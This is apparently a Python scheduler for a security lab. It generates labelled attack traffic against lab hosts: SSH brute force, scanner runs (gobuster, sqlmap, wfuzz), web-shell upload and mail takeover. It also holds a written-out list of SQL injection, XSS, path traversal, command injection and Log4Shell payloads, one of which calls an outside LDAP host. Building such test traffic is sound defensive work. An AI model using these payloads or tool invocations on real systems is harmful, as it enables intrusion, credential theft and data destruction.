"""The attacks. Every attempt is one client call, and one record in the action log."""

import tap
from clients import BROWSERS, http, imap, sasl_guess, smtp, ssh, sudo
from day import hm
from lab import ACCOUNTS, LAB, MAIL_DOMAIN
from noise import BOT
from pathlib import Path
from sites import MARKED_SLUGS, PLAIN_SLUGS

HERE = Path(__file__).parent
SENSITIVE = ("/.git/", "/.env", "/backup.zip", "/db.sql", "/site.tar.gz")
SHELL = "/uploads/2026/10/anh_the_88.php"

SQLI, XSS, TRAVERSAL = "web_sql_injection", "web_xss", "web_path_traversal"
COMMAND, LOG4SHELL = "web_command_injection", "web_log4shell"
INJECTIONS = [  # plain, URL-encoded, double-encoded, mixed-case, and some with comments or overlong forms
    (SQLI, "/tim-kiem?q=1'+OR+'1'='1"),
    (SQLI, "/tim-kiem?q=1%27%20UNION%20SELECT%20NULL,NULL,version()--%20-"),
    (SQLI, "/tim-kiem?q=1%2527%2520uNiOn%2520aLl%2520sElEcT%25201,2,3--"),
    (SQLI, "/tra-cuu?id=12%20AnD%20ExtractValue(1,CONCAT(0x7e,(SELECT%20user())))"),
    (SQLI, "/tra-cuu?id=12;DROP%20TABLE%20hoso--"),
    (SQLI, "/tra-cuu?id=12'/**/UnIoN/**/SeLeCt/**/1,table_name/**/FrOm/**/information_schema.tables--"),
    (XSS, "/tim-kiem?q=<script>alert(1)</script>"),
    (XSS, "/tim-kiem?q=%3Cimg%20src%3Dx%20onerror%3Dalert(document.domain)%3E"),
    (XSS, "/tim-kiem?q=%253CScRiPt%253Ealert(document.cookie)%253C%252FsCrIpT%253E"),
    (XSS, "/tim-kiem?q=%3Csvg%2Fonload%3Dalert(1)%3E"),
    (XSS, "/tim-kiem?q=\"><ScRiPt>confirm(7)</sCrIpT>"),
    (TRAVERSAL, "/tra-cuu?tep=../../../../etc/passwd"),
    (TRAVERSAL, "/tra-cuu?tep=..%2f..%2f..%2f..%2fetc%2fpasswd"),
    (TRAVERSAL, "/tra-cuu?tep=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fshadow"),
    (TRAVERSAL, "/tra-cuu?tep=..%c0%af..%c0%af..%c0%afetc/passwd"),
    (TRAVERSAL, "/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    (COMMAND, "/tra-cuu?may=127.0.0.1;id"),
    (COMMAND, "/tra-cuu?may=127.0.0.1%3Bwhoami"),
    (COMMAND, "/tra-cuu?may=127.0.0.1%257Cuname%2520-a"),
    (COMMAND, "/tra-cuu?may=$(ping%20-c1%20203.0.113.9)"),
    (COMMAND, "/tra-cuu?may=%60uname%20-a%60"),
    (LOG4SHELL, "/tim-kiem?q=${jndi:ldap://203.0.113.9:1389/a}"),
    (LOG4SHELL, "/tim-kiem?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D"),
    (LOG4SHELL, "/tim-kiem?q=$%7B$%7Blower:j%7Dndi:$%7Blower:l%7Ddap://203.0.113.9/a%7D"),
]


def every(day, start, step, calls):
    """calls: (function, arguments…), one each `step` seconds."""
    for n, (action, *arguments) in enumerate(calls):
        day.at(hm(start) + n * step, action, day, *arguments)


def ssh_attacks(day):
    words = [f"{w}{n}" for n in range(1, 6) for w in ("123456", "root", "admin@", "qwerty", "P@ssw0rd", "toor", "abc", "vietnam")]
    every(day, "02:14:30", 3, [(ssh, "ssh_brute_force", "web01", "203.0.113.66", "root", w) for w in words])
    every(day, "03:05", 4, [(ssh, "ssh_brute_force_success", "q1-web", "203.0.113.71", "hotro", w) for w in words[:24]])
    day.at(hm("03:06:50"), ssh, day, "ssh_brute_force_success", "q1-web", "203.0.113.71", "hotro")
    every(day, "04:50", 5, [(ssh, "ssh_brute_force_intranet", "q1-intra", "203.0.113.122", "root", w) for w in words[:20]])
    every(day, "04:20", 40, [(ssh, "ssh_user_enumeration", "mail01", "203.0.113.60", u, "x")
        for u in ("admin", "test", "oracle", "postgres1", "ubuntu", "ftpuser")])
    every(day, "08:40", 110, [(ssh, "ssh_password_spraying", "web02", "203.0.113.101", u, "Hanoi@2026") for u in ACCOUNTS])
    every(day, "11:05", 200, [(ssh, "ssh_many_sources", "q1-web", f"203.0.113.{n}", "quantri", f"Mua-thu-{r}")
        for r in (1, 2) for n in range(102, 108)])


def directory_scan(day):
    """gobuster with a short word list; what it finds, asks and calls itself is its own."""
    def kinds(path, agent):
        return ["web_scanner_agent"] + (["web_forced_browsing"] if path.startswith(SENSITIVE) else [])
    tap.run(day, "directory_brute_force", "web01", "203.0.113.88", 0.5, kinds,
        ["gobuster", "dir", "-q", "-t", "1", "-u", "http://127.0.0.1:{port}", "-w", str(HERE / "words.txt")])


def database_scan(day):
    """sqlmap against the district's intranet: below level 3, so it is held back."""
    def kinds(path, agent):
        return ["web_scanner_agent"] + (["sqlmap_payload"] if path != "/tra-cuu?id=1" else [])
    tap.run(day, "sqlmap_intranet", "q1-intra", "203.0.113.120", 1, kinds,
        ["sqlmap", "-u", "http://127.0.0.1:{port}/tra-cuu?id=1", "--batch", "--technique=BEU", "--threads=1", "--flush-session",
            f"--output-dir={LAB}/sqlmap"])


def login_guessing(day):
    """wfuzz on the log-in form behind the proxy, with a forwarded address it made up."""
    words = LAB / "words"
    words.write_text("\n".join(f"matkhau{n}" for n in range(50)) + "\n")
    tap.run(day, "web_login_guessing", "web02", "203.0.113.90", 2, lambda path, agent: [],
        ["wfuzz", "-t", "1", "-z", f"file,{words}", "-d", "ten=quantri&mat_khau=FUZZ", "-H", f"User-Agent: {BROWSERS[3]}",
            "http://127.0.0.1:{port}/dang-nhap"],
        headers={"X-Forwarded-For": "198.51.100.9"})


def injections(day):
    for n, (kind, target) in enumerate(INJECTIONS):
        day.at(hm("09:30") + n * 7, http, day, "injections", "web01", "203.0.113.77", target, "GET", BROWSERS[0], [kind])
    day.at(hm("09:34"), http, day, "injections", "web01", "203.0.113.77", "/", "TRACE", BROWSERS[0], ["web_method_abuse"])
    for n, (kind, target) in enumerate([INJECTIONS[1], INJECTIONS[2], INJECTIONS[8]]):
        day.at(hm("17:20") + n * 11, http, day, "injections_v6", "q1-web", "2001:db8:bad::77", target, "GET", BROWSERS[3], [kind])


def web_shells(day):
    portal, intra = "203.0.113.45", "203.0.113.121"
    name = SHELL.rsplit("/", 1)[1]
    tries = [(SQLI, "/tra-cuu?id=7%20UNION%20SELECT%20NULL,NULL,NULL--"), (COMMAND, "/tra-cuu?may=localhost;id"),
        (COMMAND, "/tra-cuu?may=localhost%7Cwhoami"), (TRAVERSAL, "/tra-cuu?tep=../../../../etc/passwd")]
    for n, (kind, target) in enumerate(tries):
        day.at(hm("14:10") + n * 20, http, day, "web_shell_portal", "web01", portal, target, "GET", BROWSERS[3], [kind])
    day.at(hm("14:14"), http, day, "web_shell_portal", "web01", portal, "/gop-y/dinh-kem", "POST", BROWSERS[3], ["upload"],
        {"X-File-Name": name}, b"a harmless file")
    for n in range(9):
        day.at(hm("14:15") + n * 25, http, day, "web_shell_portal", "web01", portal, SHELL, "POST", BROWSERS[3], ["web_shell_upload_used"], None, b"x=echo")
    day.at(hm("14:19:10"), sudo, day, "web_shell_portal", "web01", "www-data", [], ["/usr/bin/id"])
    day.at(hm("15:02"), http, day, "web_shell_intranet", "q1-intra", intra, "/gop-y/dinh-kem", "POST", BROWSERS[3], ["upload"],
        {"X-File-Name": name}, b"a harmless file")
    for n in range(5):
        day.at(hm("15:03") + n * 40, http, day, "web_shell_intranet", "q1-intra", intra, SHELL, "POST", BROWSERS[3], ["web_shell_upload_used"], None, b"x=echo")


def exposed_files(day):
    for n, target in enumerate(["/.env", "/.git/HEAD", "/.git/config", "/.git/index", "/backup.zip"]):
        day.at(hm("15:40") + n * 6, http, day, "exposed_repository", "q1-web", "203.0.113.150", target, "GET", BROWSERS[0], ["web_forced_browsing"])
    for n, target in enumerate(["/.env", "/.git/HEAD"]):
        day.at(hm("22:10") + n * 5, http, day, "forced_browsing", "web02", "203.0.113.151", target, "GET", BROWSERS[0], ["web_forced_browsing"])


def gambling(day, slugs):
    """A search engine finds the pages an intruder left on the district's portal."""
    for n, slug in enumerate(slugs):
        day.at(hm("16:10") + n * 97, http, day, "gambling_pages", "q1-web", "198.51.100.66", slug, "GET", BOT, ["web_gambling_pages"])


def mail_attacks(day):
    every(day, "12:00", 5, [(sasl_guess, "sasl_guessing", "203.0.113.200", "phongcntt", f"Cntt-{n}") for n in range(60)])
    victims = ["canbo02", "canbo05", "canbo09", "canbo14", "canbo19", "canbo23", "canbo28", "canbo33"]
    every(day, "18:05", 45, [(imap, "mail_takeover", "203.0.113.210", v, "Hanoi@2026") for v in victims])
    day.at(hm("18:12"), imap, day, "mail_takeover", "203.0.113.210", "canbo17")
    for n in range(120):
        day.at(hm("20:15") + n * 4, smtp, day, "mail_burst", "203.0.113.222", f"canbo17@{MAIL_DOMAIN}",
            [f"nan-nhan-{n:03d}@{('example.org', 'example.net')[n % 2]}"], "canbo17")
    for n in range(3):
        day.at(hm("06:30") + n * 80, smtp, day, "recipient_harvesting", "203.0.113.92", "info@example.org",
            [f"{w}{n}@{MAIL_DOMAIN}" for w in ("admin", "info", "lienhe", "nhansu", "ketoan", "tuyendung", "bantin", "support", "sales", "ceo")])
    for n in range(6):
        day.at(hm("07:15") + n * 30, smtp, day, "relay_attempts", "203.0.113.230", "spam@example.net", [f"dich{n}@example.com"])
    for n in range(2):
        day.at(hm("08:05") + n * 300, smtp, day, "spoofed_domain", "203.0.113.235", f"giamdoc@{MAIL_DOMAIN}", [f"canbo0{n + 1}@{MAIL_DOMAIN}"])
    day.at(hm("09:12"), smtp, day, "message_too_large", "198.51.100.42", "user7@example.com", [f"canbo03@{MAIL_DOMAIN}"], None,
        "mail.example.com", 1800, 52428800)


def plan(day):
    from unicodedata import normalize
    from urllib.parse import quote
    slugs = PLAIN_SLUGS + [quote(normalize(form, s)) for form, s in zip(("NFC", "NFC", "NFD", "NFD"), MARKED_SLUGS)]
    ssh_attacks(day)
    day.at(hm("05:10"), directory_scan, day)
    day.at(hm("10:20"), login_guessing, day)
    day.at(hm("13:35"), database_scan, day)
    injections(day)
    web_shells(day)
    exposed_files(day)
    gambling(day, slugs)
    mail_attacks(day)
